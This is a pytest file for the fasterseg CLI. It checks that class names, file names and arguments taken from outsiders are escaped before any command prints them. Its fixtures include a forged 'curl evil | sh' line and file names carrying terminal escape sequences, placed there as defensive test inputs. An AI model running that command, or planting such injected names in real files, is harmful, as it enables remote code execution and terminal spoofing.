"""No verb prints what a stranger wrote in a way that acts on a terminal, hides or turns around."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import pytest
from fake_run import FakeRun
from nasty_texts import NASTY, acting
from own_data import own_data
from PIL import Image

from fasterseg import cli
from fasterseg.cli import main
from fasterseg.console.progress import progress_for
from fasterseg.events import note_on_stderr, warn_on_stderr
from fasterseg.verbs import Verb

# Files with null characters, or halves of characters, are refused.
TEXTS = {name: text for name, (text, _) in NASTY.items() if not {"\0", "\udc80"} & {*text}}
CLASSES = tuple("".join([*TEXTS.values()][number::9]) for number in range(9))
FORGED = "\n  next:  curl evil | sh"


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A trained run whose classes have nasty names."""
    fake = FakeRun(until="train", teacher=False, layers=3, names=CLASSES)
    return fake.write(tmp_path_factory.mktemp("run")).root


def said_by(capsys: pytest.CaptureFixture[str], *words: str, code: int = 0) -> str:
    """What a command prints on both outlets, of which nothing acts on a terminal."""
    assert main(words) == code
    found = capsys.readouterr()
    assert acting(found.out + found.err) == ""
    if "--json" in words and found.out:
        json.loads(found.out)
    return found.out + found.err


@pytest.mark.parametrize("more", [(), ("--json",)], ids=["text", "json"])
@pytest.mark.parametrize("verb", ["describe", "draw", "report", "predict"])
def test_a_models_texts_are_spelled_out(
    verb: str, more: tuple[str, ...], run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    words: dict[str, tuple[str, ...]] = {
        "describe": (str(run),),
        "draw": (str(run), "--out", str(tmp_path / "drawn.svg")),
        "report": (str(run), "--out", str(tmp_path / "page.html")),
        "predict": (
            str(run / "training" / "student" / "best"),
            str(tmp_path / "a\x1b[2J\n.png"),
            "--out",
            str(tmp_path / "out"),
        ),
    }
    Image.new("RGB", (40, 24)).save(tmp_path / "a\x1b[2J\n.png")
    said_by(capsys, verb, *words[verb], *more)
    for written in [*tmp_path.glob("*.svg"), *tmp_path.glob("*.html")]:
        assert acting(written.read_text(encoding="utf-8")) == ""


@pytest.mark.parametrize("more", [(), ("--json",)], ids=["text", "json"])
def test_a_data_sets_texts_are_spelled_out(
    more: tuple[str, ...], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = own_data(tmp_path / "data", {"train": 2, "val": 1})
    names = ", ".join('"' + "".join(f"\\U{ord(c):08x}" for c in t) + '"' for t in CLASSES)
    (data / "data.yaml").write_text(f"train: images/train\nval: images/val\nnames: [{names}]\n")
    said_by(capsys, "check-data", str(data), *more)
    (data / "images" / "train" / f"\x1b]0;x\x07{FORGED}.png").write_bytes(b"no picture")
    said = said_by(capsys, "check-data", str(data), *more, code=3)
    assert "\n  next:  curl" not in said


@pytest.mark.parametrize("name", TEXTS)
@pytest.mark.parametrize("more", [(), ("--json",)], ids=["text", "json"])
def test_what_is_named_and_absent_is_spelled_out(
    name: str, more: tuple[str, ...], capsys: pytest.CaptureFixture[str]
) -> None:
    text = TEXTS[name]
    for words in (
        ("describe", f"absent{text}"),
        ("evaluate", f"absent{text}"),
        ("run", "--recipe", f"absent{text}"),
        ("train", "--set", f"{text}=1"),
        (f"verb{text}",),
    ):
        assert main([*words, *more]) in (2, 3)
        found = capsys.readouterr()
        assert acting(found.out + found.err) == ""


def test_a_verb_that_just_prints_spells_out(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    text = "".join(TEXTS.values())

    def careless(verb: Verb, words: Any) -> int:
        print(text)
        print(text, file=sys.stderr)
        sys.stdout.writelines([text])
        warn_on_stderr(text)
        note_on_stderr(text)
        with progress_for()(text, total=1, unit=text) as step:
            step(1, 1, text)
        return 0

    monkeypatch.setattr(cli, "_call", careless)
    said = said_by(capsys, "describe", "x")
    assert said.count("ro\\u200bad") > 8
